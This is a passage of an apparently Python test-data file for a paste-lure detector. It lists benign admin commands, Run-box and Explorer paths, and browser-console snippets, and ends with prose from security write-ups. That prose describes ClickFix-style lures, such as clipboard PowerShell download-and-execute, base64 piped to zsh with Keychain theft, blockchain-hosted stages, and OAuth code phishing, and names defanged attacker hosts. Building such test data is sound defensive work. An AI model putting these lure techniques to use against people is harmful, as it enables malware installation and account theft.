        "certutil -hashfile C:\\Users\\me\\Downloads\\VSCodeSetup-x64.exe SHA256",
    ),
    (
        LEARN + "windows-server/administration/windows-commands/msiexec",
        "msiexec /i C:\\Installers\\LAPS.x64.msi /qn /l*v C:\\Temp\\laps-install.log",
    ),
    (
        LEARN + "powershell/module/microsoft.powershell.utility/invoke-webrequest",
        "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile $env:TEMP\\vc_redist.x64.exe\nStart-Process $env:TEMP\\vc_redist.x64.exe -ArgumentList '/install','/quiet','/norestart' -Wait",
    ),
    (
        "https://docs.docker.com/desktop/setup/install/windows-install/",
        "Start-Process 'Docker Desktop Installer.exe' -Wait -ArgumentList 'install', '--accept-license', '--backend=wsl-2'",
    ),
    (
        "https://www.7-zip.org/faq.html",
        'msiexec /i 7z2408-x64.msi /qn INSTALLDIR="C:\\Program Files\\7-Zip"',
    ),
    (
        RUNBOOK + "windows/agent-rollout",
        "Invoke-WebRequest https://files.corp.example/agents/inventory-agent-4.2.msi -OutFile C:\\Temp\\inventory-agent.msi\nmsiexec /i C:\\Temp\\inventory-agent.msi /qn SERVER=inv.corp.example",
    ),
    (
        RUNBOOK + "windows/printer-driver",
        "pnputil /add-driver \\\\fs01.corp.example\\drivers\\HP\\hpcu270u.inf /install",
    ),
    (
        RUNBOOK + "windows/bitlocker-status",
        "manage-bde -status C: && manage-bde -protectors -get C: -Type RecoveryPassword",
    ),
    (RUNBOOK + "windows/dns-cache", "ipconfig /flushdns && ipconfig /registerdns"),
    (
        RUNBOOK + "windows/time-sync",
        "w32tm /config /syncfromflags:domhier /update\nw32tm /resync /force\nw32tm /query /source",
    ),
    (RUNBOOK + "windows/gpresult", "gpresult /scope computer /h C:\\Temp\\gp-ws0412.html /f"),
    (RUNBOOK + "windows/disk-cleanup", "cleanmgr /sagerun:1"),
    (
        RUNBOOK + "windows/sfc",
        'sfc /scannow & findstr /c:"[SR]" %windir%\\Logs\\CBS\\CBS.log > %userprofile%\\Desktop\\sfcdetails.txt',
    ),
    (RUNBOOK + "windows/chkdsk", "chkdsk D: /f /r"),
    (
        RUNBOOK + "windows/rdp-users",
        "Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CORP\\j.doe'",
    ),
    (
        RUNBOOK + "windows/firewall-rule",
        "New-NetFirewallRule -DisplayName 'Allow SQL 1433' -Direction Inbound -Protocol TCP -LocalPort 1433 -Action Allow -Profile Domain",
    ),
    (
        RUNBOOK + "windows/services",
        "Get-Service -Name Spooler, BITS, wuauserv | Select-Object Name, Status, StartType",
    ),
    (
        RUNBOOK + "windows/restart-spooler",
        "Stop-Service Spooler -Force; Remove-Item C:\\Windows\\System32\\spool\\PRINTERS\\* -Force; Start-Service Spooler",
    ),
    (
        RUNBOOK + "windows/event-logs",
        "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddDays(-1)} | Format-Table TimeCreated, Id, ProviderName -AutoSize",
    ),
    (
        RUNBOOK + "windows/uptime",
        "(Get-Date) - (Get-CimInstance Win32_OperatingSystem).LastBootUpTime",
    ),
    (
        RUNBOOK + "windows/installed-updates",
        "Get-HotFix -ComputerName ws-0412 | Sort-Object InstalledOn -Descending | Select-Object -First 5 HotFixID, InstalledOn",
    ),
    (
        RUNBOOK + "windows/ad-user-lockout",
        "Search-ADAccount -LockedOut -UsersOnly | Where-Object Enabled | Select-Object Name, SamAccountName, LastLogonDate | Sort-Object Name",
    ),
    (RUNBOOK + "windows/ad-unlock", "Unlock-ADAccount -Identity m.schmidt"),
    (
        RUNBOOK + "windows/ad-group-members",
        "Get-ADGroupMember -Identity 'VPN-Users' -Recursive | Select-Object -ExpandProperty SamAccountName",
    ),
    (
        RUNBOOK + "windows/robocopy-migration",
        "robocopy \\\\oldfs\\projects \\\\fs02.corp.example\\projects /MIR /COPY:DAT /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log",
    ),
    (
        RUNBOOK + "windows/scheduled-task",
        'schtasks /create /tn "Nightly Backup" /tr "C:\\Scripts\\backup.cmd" /sc daily /st 02:30 /ru SYSTEM /rl HIGHEST',
    ),
    (
        RUNBOOK + "windows/wsus-reset",
        "net stop wuauserv && net stop bits && rd /s /q C:\\Windows\\SoftwareDistribution && net start bits && net start wuauserv",
    ),
    (
        RUNBOOK + "windows/choco-baseline",
        "choco install -y googlechrome 7zip notepadplusplus vlc --no-progress",
    ),
    (
        RUNBOOK + "windows/scoop-tools",
        "scoop bucket add extras\nscoop install extras/windirstat sysinternals",
    ),
    (RUNBOOK + "windows/sysinternals", "winget install --id Microsoft.Sysinternals.Suite -e"),
    (
        RUNBOOK + "windows/defender-scan",
        "Start-MpScan -ScanType QuickScan\nGet-MpThreatDetection | Select-Object -First 5",
    ),
    (
        RUNBOOK + "windows/defender-signatures",
        "Update-MpSignature -UpdateSource MicrosoftUpdateServer",
    ),
    (RUNBOOK + "windows/net-use", "net use S: \\\\fs02.corp.example\\shared /persistent:yes"),
    (RUNBOOK + "windows/whoami-groups", "whoami /groups /fo table"),
    (
        RUNBOOK + "windows/power-report",
        "powercfg /batteryreport /output C:\\Temp\\battery-ws0412.html /duration 14",
    ),
    (
        RUNBOOK + "windows/winrm",
        "Enable-PSRemoting -Force -SkipNetworkProfileCheck\nSet-Item WSMan:\\localhost\\Client\\TrustedHosts -Value 'srv-app01.corp.example' -Concatenate",
    ),
    (RUNBOOK + "windows/test-port", "Test-NetConnection -ComputerName smtp.corp.example -Port 587"),
    (RUNBOOK + "windows/dsregcmd", 'dsregcmd /status | findstr /i "AzureAdJoined DomainJoined"'),
    (
        RUNBOOK + "windows/intune-sync",
        "Get-ScheduledTask | Where-Object TaskName -eq 'PushLaunch' | Start-ScheduledTask",
    ),
    (
        RUNBOOK + "windows/office-repair",
        '"C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe" scenario=Repair platform=x64 culture=en-us RepairType=QuickRepair',
    ),
    (
        RUNBOOK + "windows/teams-cache",
        'Stop-Process -Name ms-teams -ErrorAction SilentlyContinue\nRemove-Item "$env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams" -Recurse -Force',
    ),
    (RUNBOOK + "windows/edge-policy", 'reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Edge" /s'),
    (
        RUNBOOK + "windows/long-paths",
        "New-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force",
    ),
    (
        RUNBOOK + "windows/wsl-update",
        "wsl --update --pre-release\nwsl --shutdown\nwsl --list --verbose",
    ),
    (
        RUNBOOK + "windows/hyperv-vm",
        "Get-VM | Where-Object State -eq 'Running' | Select-Object Name, Uptime, MemoryAssigned",
    ),
    (RUNBOOK + "windows/iis-reset", "iisreset /restart"),
    (
        "https://docs.docker.com/engine/install/debian/",
        "sudo install -m 0755 -d /etc/apt/keyrings\nsudo curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc\nsudo chmod a+r /etc/apt/keyrings/docker.asc",
    ),
    (
        "https://docs.docker.com/engine/install/fedora/",
        "sudo dnf -y install dnf-plugins-core\nsudo dnf-3 config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo\nsudo dnf install docker-ce docker-ce-cli containerd.io",
    ),
    (
        "https://kubernetes.io/docs/tasks/tools/install-kubectl-linux/",
        'curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/arm64/kubectl"\nsudo install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl\nkubectl version --client',
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods --all-namespaces --field-selector=status.phase!=Running",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-application/debug-running-pod/",
        "kubectl debug -it ephemeral-demo --image=busybox:1.28 --target=ephemeral-demo",
    ),
    (
        RUNBOOK + "k8s/rollout-restart",
        "kubectl -n payments rollout restart deployment/api && kubectl -n payments rollout status deployment/api",
    ),
    (
        RUNBOOK + "k8s/drain-node",
        "kubectl drain worker-07 --ignore-daemonsets --delete-emptydir-data",
    ),
    (RUNBOOK + "k8s/top-pods", "kubectl top pods -n ingress --sort-by=memory"),
    (
        RUNBOOK + "k8s/secret-decode",
        "kubectl -n auth get secret oidc-client -o jsonpath='{.data.client-secret}' | base64 -d",
    ),
    (RUNBOOK + "k8s/port-forward", "kubectl -n monitoring port-forward svc/grafana 3000:80"),
    (
        RUNBOOK + "helm/upgrade",
        "helm upgrade --install api ./charts/api -n payments -f values/prod.yaml --atomic --timeout 10m",
    ),
    (RUNBOOK + "helm/rollback", "helm history api -n payments\nhelm rollback api 41 -n payments"),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform plan -out=tfplan -var-file=prod.tfvars",
    ),
    (
        RUNBOOK + "terraform/state",
        "terraform state list | grep aws_security_group\nterraform state show 'aws_security_group.web'",
    ),
    (RUNBOOK + "terraform/import", "terraform import aws_s3_bucket.logs corp-example-logs"),
    (
        RUNBOOK + "terraform/apt-repo",
        'wget -O- https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/hashicorp-archive-keyring.gpg\necho "deb [signed-by=/usr/share/keyrings/hashicorp-archive-keyring.gpg] https://apt.releases.hashicorp.com $(lsb_release -cs) main" | sudo tee /etc/apt/sources.list.d/hashicorp.list',
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
        "aws s3 sync ./site s3://corp-example-www --delete --cache-control max-age=300",
    ),
    (
        RUNBOOK + "aws/ssm-session",
        "aws ssm start-session --target i-0a1b2c3d4e5f67890 --region eu-central-1",
    ),
    (
        RUNBOOK + "aws/ecr-login",
        "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
    ),
    (RUNBOOK + "aws/sts-whoami", "aws sts get-caller-identity --profile prod-readonly"),
    (RUNBOOK + "aws/logs-tail", "aws logs tail /ecs/api --follow --since 15m"),
    (
        RUNBOOK + "az/vm-list",
        'az vm list -d -g rg-prod-weu --query "[].{name:name, state:powerState}" -o table',
    ),
    (
        RUNBOOK + "az/aks-creds",
        "az aks get-credentials --resource-group rg-aks --name aks-prod-weu --overwrite-existing",
    ),
    (
        RUNBOOK + "az/keyvault",
        "az keyvault secret show --vault-name kv-corp-prod --name db-password --query value -o tsv",
    ),
    (
        RUNBOOK + "gcloud/ssh",
        "gcloud compute ssh web-01 --zone europe-west3-a --tunnel-through-iap",
    ),
    (
        RUNBOOK + "gcloud/gke",
        "gcloud container clusters get-credentials prod --region europe-west1 --project corp-example-prod",
    ),
    (
        "https://cloud.google.com/sdk/docs/install#deb",
        "curl https://packages.cloud.google.com/apt/doc/apt-key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/cloud.google.gpg",
    ),
    (
        "https://www.postgresql.org/download/linux/ubuntu/",
        "sudo apt install -y postgresql-common\nsudo /usr/share/postgresql-common/pgdg/apt.postgresql.org.sh\nsudo apt install -y postgresql-17",
    ),
    (
        "https://nginx.org/en/linux_packages.html#Ubuntu",
        "curl https://nginx.org/keys/nginx_signing.key | gpg --dearmor | sudo tee /usr/share/keyrings/nginx-archive-keyring.gpg >/dev/null",
    ),
    (
        "https://grafana.com/docs/grafana/latest/setup-grafana/installation/debian/",
        "sudo mkdir -p /etc/apt/keyrings/\nwget -q -O - https://apt.grafana.com/gpg.key | gpg --dearmor | sudo tee /etc/apt/keyrings/grafana.gpg > /dev/null",
    ),
    (
        "https://www.mongodb.com/docs/manual/tutorial/install-mongodb-on-ubuntu/",
        "curl -fsSL https://www.mongodb.org/static/pgp/server-8.0.asc | sudo gpg -o /usr/share/keyrings/mongodb-server-8.0.gpg --dearmor",
    ),
    (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/deb.html",
        "wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo gpg --dearmor -o /usr/share/keyrings/elasticsearch-keyring.gpg\nsudo apt-get install apt-transport-https",
    ),
    (
        "https://learn.microsoft.com/en-us/linux/packages",
        "curl -sSL -O https://packages.microsoft.com/config/ubuntu/24.04/packages-microsoft-prod.deb\nsudo dpkg -i packages-microsoft-prod.deb\nrm packages-microsoft-prod.deb",
    ),
    (RUNBOOK + "linux/disk-usage", "sudo du -xh / --max-depth=1 2>/dev/null | sort -h | tail -15"),
    (RUNBOOK + "linux/journal", "journalctl -u nginx --since '1 hour ago' --no-pager | tail -100"),
    (RUNBOOK + "linux/failed-units", "systemctl --failed\nsystemctl status postgresql@16-main"),
    (RUNBOOK + "linux/ports", "sudo ss -tulpn | grep -E ':(80|443|5432|6379)\\b'"),
    (
        RUNBOOK + "linux/cert-expiry",
        "echo | openssl s_client -connect www.corp.example:443 -servername www.corp.example 2>/dev/null | openssl x509 -noout -dates",
    ),
    (RUNBOOK + "linux/certbot-renew", "sudo certbot renew --dry-run --cert-name www.corp.example"),
    (
        RUNBOOK + "linux/ufw",
        "sudo ufw allow from 10.20.0.0/16 to any port 22 proto tcp\nsudo ufw status numbered",
    ),
    (RUNBOOK + "linux/fail2ban", "sudo fail2ban-client status sshd"),
    (
        RUNBOOK + "linux/apt-upgrade",
        "sudo apt update && sudo apt -y full-upgrade && sudo apt -y autoremove",
    ),
    (
        RUNBOOK + "linux/dnf-security",
        "sudo dnf updateinfo list --security\nsudo dnf upgrade --security -y",
    ),
    (
        RUNBOOK + "linux/rsync-backup",
        "rsync -aHAX --delete --info=progress2 /srv/data/ backup01.corp.example:/backups/data/",
    ),
    (RUNBOOK + "linux/logrotate", "sudo logrotate -d /etc/logrotate.d/app"),
    (RUNBOOK + "linux/lvm-extend", "sudo lvextend -r -L +20G /dev/vg0/var"),
    (
        RUNBOOK + "linux/swap",
        "sudo fallocate -l 4G /swapfile && sudo chmod 600 /swapfile && sudo mkswap /swapfile && sudo swapon /swapfile",
    ),
    (
        RUNBOOK + "linux/user-add",
        "sudo useradd -m -s /bin/bash -G sudo deploy && sudo passwd -l deploy",
    ),
    (
        RUNBOOK + "linux/ssh-keygen",
        'ssh-keygen -t ed25519 -C "j.doe@corp.example" -f ~/.ssh/id_ed25519_corp',
    ),
    (
        RUNBOOK + "linux/ssh-copy-id",
        "ssh-copy-id -i ~/.ssh/id_ed25519_corp.pub deploy@app01.corp.example",
    ),
    (RUNBOOK + "linux/tcpdump", "sudo tcpdump -i eth0 -nn port 53 -c 100 -w /tmp/dns.pcap"),
    (RUNBOOK + "linux/dig", "dig +short TXT _dmarc.corp.example\ndig @1.1.1.1 mx corp.example"),
    (
        RUNBOOK + "linux/nmcli",
        "nmcli connection modify 'Wired connection 1' ipv4.dns '10.0.0.53 10.0.0.54'",
    ),
    (
        RUNBOOK + "linux/docker-prune",
        "docker system df\ndocker system prune -af --filter 'until=168h'",
    ),
    (
        RUNBOOK + "linux/docker-logs",
        "docker compose -f /opt/app/compose.yaml logs --tail=200 -f api",
    ),
    (
        RUNBOOK + "linux/podman-systemd",
        "podman generate systemd --new --name web > ~/.config/systemd/user/web.service",
    ),
    (
        RUNBOOK + "linux/pg-dump",
        "pg_dump -h db01.corp.example -U backup -Fc orders > /backups/orders-$(date +%F).dump",
    ),
    (RUNBOOK + "linux/mysql-check", "mysqlcheck -u root -p --all-databases --check-upgrade"),
    (
        RUNBOOK + "linux/redis-info",
        "redis-cli -h cache01.corp.example INFO memory | grep used_memory_human",
    ),
    (
        "https://support.apple.com/en-us/102149",
        "/usr/sbin/softwareupdate --install-rosetta --agree-to-license\narch -x86_64 /usr/bin/true && echo Rosetta OK",
    ),
    (
        "https://ss64.com/mac/softwareupdate.html",
        "softwareupdate --list\nsudo softwareupdate -ia --restart",
    ),
    (
        RUNBOOK + "mac/flush-dns",
        "sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder; echo DNS cache flushed on $(scutil --get ComputerName)",
    ),
    (RUNBOOK + "mac/filevault", "fdesetup status"),
    (
        RUNBOOK + "mac/profiles",
        "sudo profiles show -type enrollment && profiles status -type enrollment",
    ),
    (
        RUNBOOK + "mac/spotlight",
        "sudo mdutil -i on /System/Volumes/Data && sudo mdutil -E /System/Volumes/Data",
    ),
    (RUNBOOK + "mac/xcode-cli", "xcode-select -p || xcode-select --install"),
    (
        RUNBOOK + "mac/defaults",
        "defaults write com.apple.finder ShowPathbar -bool true && defaults write com.apple.finder AppleShowAllFiles -bool true && killall Finder",
    ),
    (
        RUNBOOK + "mac/pkg-install",
        "sudo installer -pkg ~/Downloads/CompanyPortal-Installer.pkg -target /",
    ),
    (RUNBOOK + "mac/brew-bundle", "brew bundle dump --file=~/Brewfile --force"),
    (RUNBOOK + "mac/launchctl-list", "launchctl list | grep -i com.corpexample"),
    (RUNBOOK + "mac/codesign", "codesign -dv --verbose=4 /Applications/Slack.app"),
    (RUNBOOK + "mac/spctl", "spctl --assess --verbose /Applications/Zoom.us.app"),
]
for page, text in ADMIN_TEXTS:
    ok(ADMIN, TERM, page, text)

# --- Run-box and Explorer entries people really type -----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "control /name Microsoft.NetworkAndSharingCenter",
    "control sysdm.cpl,,3",
    "control keymgr.dll",
    "control appwiz.cpl",
    "ms-settings:windowsupdate-options",
    "ms-settings:signinoptions",
    "%appdata%\\Microsoft\\Signatures",
    "%localappdata%\\Microsoft\\Outlook",
    "%programdata%\\Microsoft\\Windows\\Start Menu\\Programs",
    "%userprofile%\\AppData\\Roaming\\Microsoft\\Teams",
    "services.msc /computer=srv-app01",
    "\\\\fileserver\\Marketing\\Kampagnen 2027",
    "\\\\fs01.corp.example\\home$\\j.doe",
    "\\\\10.0.4.20\\scans",
    "mstsc /v:ts01.corp.example:3390 /admin",
    "mstsc /v:10.0.8.31 /w:1920 /h:1080",
    "ping -t 10.0.0.1",
    "ping -t gw.corp.example",
    "cmd /k tracert -d 8.8.8.8",
    "cmd /k nslookup intranet.corp.example",
    "msinfo32 /report C:\\Temp\\sysinfo.txt",
    "cleanmgr /d C:",
    "excel /x",
    "msedge --inprivate https://intranet.corp.example",
    'chrome --profile-directory="Profile 2"',
    "code --new-window C:\\dev\\website",
    'wt -p "Ubuntu"',
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "\\\\fs02.corp.example\\Projekte\\2027\\Angebote",
    "\\\\nas01\\photos\\2027\\Urlaub",
    "\\\\fileserver.corp.example\\HR\\Vorlagen",
    "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default",
    "%SystemRoot%\\Logs\\CBS",
    "C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportQueue",
    "C:\\Windows\\Minidump",
    "D:\\Backups\\Outlook",
    "E:\\Fotos\\2027-06 Hochzeit",
    "shell:OneDrive",
    "ftp://ftp.corp.example/pub/firmware",
    "\\\\wsl$\\Ubuntu\\home\\dev",
    "\\\\wsl.localhost\\Debian\\var\\log",
    "\\\\tsclient\\C\\Users\\me\\Documents",
    "%OneDriveCommercial%\\Shared Documents",
    "\\\\sharepoint.corp.example@SSL\\DavWWWRoot\\sites\\finance\\Shared Documents",
    "\\\\printsrv01\\HP-Floor3",
    "OneDrive - Contoso\\Projects\\Website Relaunch",
    "This PC\\Documents\\Rechnungen",
    "C:\\Program Files (x86)\\Steam\\steamapps\\common\\Stardew Valley",
]:
    ok(EXPLORER, EXP, None, text)

# --- Console snippets developers paste (docs, Q&A answers, blog posts) -------------------------------

CONSOLE = "console-snippet"
MDN = "https://developer.mozilla.org/en-US/docs/Web/API/"
QA = "https://stackoverflow.example/questions/"
for page, text in [
    (
        MDN + "Performance/getEntriesByType",
        "performance.getEntriesByType('resource').filter(e => e.duration > 750).map(e => [e.initiatorType, e.name, Math.round(e.duration)])",
    ),
    (
        MDN + "Navigator/serviceWorker",
        "navigator.serviceWorker.getRegistrations().then(rs => { rs.forEach(r => r.unregister()); console.log(rs.length + ' service workers removed') })",
    ),
    (
        MDN + "CacheStorage/keys",
        "caches.keys().then(keys => Promise.all(keys.filter(k => k.startsWith('workbox')).map(k => caches.delete(k))))",
    ),
    (
        MDN + "Storage/clear",
        "sessionStorage.clear(); console.log('session storage cleared for', location.origin)",
    ),
    (
        MDN + "Document/querySelectorAll",
        "[...document.querySelectorAll('img:not([alt]), img[alt=\"\"]')].map(i => i.currentSrc)",
    ),
    (MDN + "Element/getBoundingClientRect", "$0.getBoundingClientRect()"),
    (MDN + "Window/matchMedia", "matchMedia('(prefers-color-scheme: dark)').matches"),
    (
        MDN + "Navigator/clipboard",
        "await navigator.clipboard.writeText(JSON.stringify(window.__APP_STATE__, null, 2))",
    ),
    (
        MDN + "Intl/NumberFormat",
        "new Intl.NumberFormat('en-IN', { style: 'currency', currency: 'INR' }).format(1234567.891)",
    ),
    (
        MDN + "Intl/RelativeTimeFormat",
        "new Intl.RelativeTimeFormat('fr', { numeric: 'auto' }).format(-1, 'day')",
    ),
    (
        MDN + "structuredClone",
        "const copy = structuredClone({ when: new Date(), tags: new Set(['a', 'b']) }); copy",
    ),
    (MDN + "Crypto/randomUUID", "Array.from({ length: 5 }, () => crypto.randomUUID())"),
    (MDN + "TextEncoder", "new TextEncoder().encode('Grüße').length"),
    (MDN + "URLSearchParams", "Object.fromEntries(new URLSearchParams(location.search))"),
    (
        MDN + "PerformanceObserver",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log(e.name, e.startTime))).observe({ type: 'largest-contentful-paint', buffered: true })",
    ),
    (
        MDN + "Document/designMode",
        "document.designMode = 'on'; document.title = '[editing] ' + document.title",
    ),
    (
        MDN + "IDBFactory/databases",
        "indexedDB.databases().then(dbs => console.table(dbs.map(d => ({ name: d.name, version: d.version }))))",
    ),
    (
        MDN + "Navigator/storage",
        "navigator.storage.estimate().then(({ usage, quota }) => console.log((usage / quota * 100).toFixed(1) + '% used'))",
    ),
    (
        MDN + "Fetch_API/Using_Fetch",
        "const r = await fetch('/api/health'); console.log(r.status, await r.json())",
    ),
    (
        MDN + "Console/table",
        "console.table([...document.links].map(a => ({ text: a.textContent.trim(), href: a.href })))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy($$('h2, h3').map(h => h.tagName + ' ' + h.textContent.trim()).join('\\n'))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "monitorEvents(document.querySelector('#site-search'), ['focusin', 'input'])",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "queryObjects(IntersectionObserver)",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "getEventListeners(document.querySelector('#checkout'))",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.props.items?.length"),
    (
        "https://vuejs.org/guide/scaling-up/tooling",
        "Object.keys(document.querySelector('#app').__vue_app__.config.globalProperties)",
    ),
    ("https://angular.dev/tools/devtools", "ng.getComponent($0)"),
    (
        "https://docs.sentry.io/platforms/javascript/troubleshooting/",
        "Sentry.captureMessage('console test from ' + navigator.userAgent)",
    ),
    (
        "https://web.dev/articles/vitals",
        "new PerformanceObserver(list => { for (const e of list.getEntries()) if (!e.hadRecentInput) console.log('CLS shift', e.value) }).observe({ type: 'layout-shift', buffered: true })",
    ),
    (QA + "41201/how-to-count-dom-nodes", "document.getElementsByTagName('*').length"),
    (
        QA + "41322/find-element-with-highest-z-index",
        "Math.max(...[...document.querySelectorAll('*')].map(e => +getComputedStyle(e).zIndex || 0))",
    ),
    (
        QA + "41587/list-all-cookies-names",
        "document.cookie.split('; ').map(c => c.split('=')[0]).sort()",
    ),
    (
        QA + "42003/detect-overflowing-elements",
        "[...document.querySelectorAll('*')].filter(e => e.scrollWidth > document.documentElement.clientWidth)",
    ),
    (
        QA + "42211/outline-every-element",
        "document.querySelectorAll('*').forEach(e => e.style.outline = '1px solid rgba(255,0,0,.3)')",
    ),
    (
        QA + "42590/unsubscribe-all-youtube",
        "document.querySelectorAll('ytd-subscribe-button-renderer button').length",
    ),
    (
        QA + "43011/scroll-to-bottom-infinite",
        "const t = setInterval(() => window.scrollTo(0, document.body.scrollHeight), 1500); // clearInterval(t) to stop",
    ),
    (
        QA + "43377/download-json-from-console",
        "const a = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob([JSON.stringify(data)], { type: 'application/json' })), download: 'data.json' }); a.click()",
    ),
    (
        QA + "43520/get-all-form-values",
        "Object.fromEntries(new FormData(document.querySelector('form')))",
    ),
    (
        QA + "43799/measure-function-time",
        "console.time('sort'); [...Array(1e6)].map(Math.random).sort(); console.timeEnd('sort')",
    ),
    (QA + "44012/check-jquery-version", "typeof jQuery !== 'undefined' && jQuery.fn.jquery"),
    (
        QA + "44233/fonts-used-on-page",
        "[...new Set([...document.querySelectorAll('body *')].map(e => getComputedStyle(e).fontFamily))]",
    ),
    (
        QA + "44507/remove-all-event-listeners",
        "const el = document.querySelector('#menu'); el.replaceWith(el.cloneNode(true))",
    ),
    (
        QA + "44810/print-local-storage-size",
        "Object.entries(localStorage).reduce((n, [k, v]) => n + k.length + v.length, 0) * 2 / 1024 + ' KB'",
    ),
    (
        QA + "45002/github-mark-all-viewed",
        "document.querySelectorAll('input.js-reviewed-checkbox:not(:checked)').forEach(c => c.click())",
    ),
    (
        QA + "45219/select-all-checkboxes",
        "document.querySelectorAll('input[type=checkbox]').forEach(c => c.checked = true)",
    ),
    (QA + "45633/playback-speed-any-video", "document.querySelector('video').playbackRate = 1.75"),
    (QA + "45890/disable-css", "[...document.styleSheets].forEach(s => s.disabled = true)"),
    (
        QA + "46104/websocket-test",
        "const ws = new WebSocket('wss://echo.websocket.org'); ws.onmessage = e => console.log(e.data); ws.onopen = () => ws.send('ping')",
    ),
    (
        QA + "46377/total-of-table-column",
        "[...document.querySelectorAll('td.amount')].reduce((s, td) => s + parseFloat(td.textContent.replace(',', '.')), 0)",
    ),
    (
        QA + "46612/notification-permission",
        "Notification.requestPermission().then(p => console.log('permission:', p))",
    ),
    (
        QA + "46840/geolocation-console",
        "navigator.geolocation.getCurrentPosition(p => console.log(p.coords.latitude, p.coords.longitude))",
    ),
    (QA + "47005/check-http2", "performance.getEntriesByType('navigation')[0].nextHopProtocol"),
    (QA + "47310/service-worker-update", "navigator.serviceWorker.ready.then(r => r.update())"),
    (
        "https://blog.frontend-notes.example/debugging-hydration",
        "window.__NEXT_DATA__.props.pageProps",
    ),
    (
        "https://blog.frontend-notes.example/debugging-hydration",
        "document.querySelectorAll('[data-reactroot], #__next').length",
    ),
    (
        "https://blog.frontend-notes.example/core-web-vitals",
        "performance.getEntriesByName('first-contentful-paint')[0]?.startTime",
    ),
    ("https://blog.frontend-notes.example/debug-zoom", "document.body.style.zoom = '80%'"),
    (
        "https://blog.frontend-notes.example/feature-flags",
        "localStorage.setItem('debug', 'shop:cart,shop:api'); location.reload()",
    ),
    (
        "https://docs.corp.example/frontend/feature-flags",
        "localStorage.setItem('ff.newCheckout', 'true')",
    ),
    (
        "https://docs.corp.example/frontend/debug-mode",
        "window.__APP_DEBUG__ = true; window.dispatchEvent(new Event('debug-changed'))",
    ),
    (
        "https://docs.corp.example/frontend/api-mock",
        "await fetch('/api/v2/orders?limit=5', { headers: { Accept: 'application/json' } }).then(r => r.json())",
    ),
    ("https://docs.corp.example/frontend/i18n", "i18next.changeLanguage('de')"),
    ("https://docs.corp.example/frontend/tracking", "window.dataLayer?.slice(-5)"),
    (
        "https://docs.corp.example/frontend/auth",
        "JSON.parse(atob(sessionStorage.getItem('id_token').split('.')[1]))",
    ),
    (
        "https://docs.corp.example/frontend/perf",
        "performance.mark('start'); renderList(); performance.measure('render', 'start')",
    ),
]:
    ok(CONSOLE, CON, page, text)

# --- Security write-ups quoting lures (prose, defanged or described) ---------------------------------

PROSE = "prose-security"
BLOG = "https://research.threat-notes.example/"
for page, text in [
    (
        BLOG + "2027/fake-captcha-wave",
        "The page shows a reCAPTCHA box; clicking it copies a PowerShell command to the clipboard and shows three steps: Win+R, Ctrl+V, Enter. The command downloads a script with Invoke-RestMethod and runs it with Invoke-Expression.",
    ),
    (
        BLOG + "2027/fake-captcha-wave#iocs",
        "Observed second-stage hosts (defanged): verify-human[.]invalid, cdn-check[.]invalid. The clipboard text ended in a comment such as '# I am not a robot - ID 4411' so the Run box shows something reassuring.",
    ),
    (
        BLOG + "2027/filefix-explained",
        "FileFix abuses the File Explorer address bar: the page asks you to 'open the shared file' by pasting a path, but the clipboard holds powershell followed by a # and many spaces, so only the fake path is visible.",
    ),
    (
        BLOG + "2027/macos-terminal-lures",
        "macOS variants ask the user to open Terminal and paste a line that decodes base64 and pipes it to zsh. The payload then shows a fake password dialog via osascript and exfiltrates the Keychain.",
    ),
    (
        BLOG + "2027/etherhiding",
        "EtherHiding stores the next stage in a smart contract on BNB Smart Chain; the injected script calls eth_call on a public RPC node and evaluates the returned string, so there is no server to take down.",
    ),
    (
        BLOG + "2027/consentfix",
        "In ConsentFix the victim signs in to a real Microsoft page, is redirected to localhost, and is told to copy that URL back into the phishing page. The URL contains an authorization code the attacker redeems.",
    ),
    (
        BLOG + "2027/device-code-phishing",
        "Device-code phishing abuses the OAuth device flow: the attacker requests a code, sends it to the victim with a pretext, and the victim enters it at microsoft.com/devicelogin, granting the attacker's session a token.",
    ),
    (
        BLOG + "2027/dns-staging",
        "A newer ClickFix chain runs nslookup against an attacker-controlled DNS server and executes the Name: field of the answer. Blocking outbound DNS to anything but the corporate resolvers stops it.",
    ),
    (
        BLOG + "2027/finger-abuse",
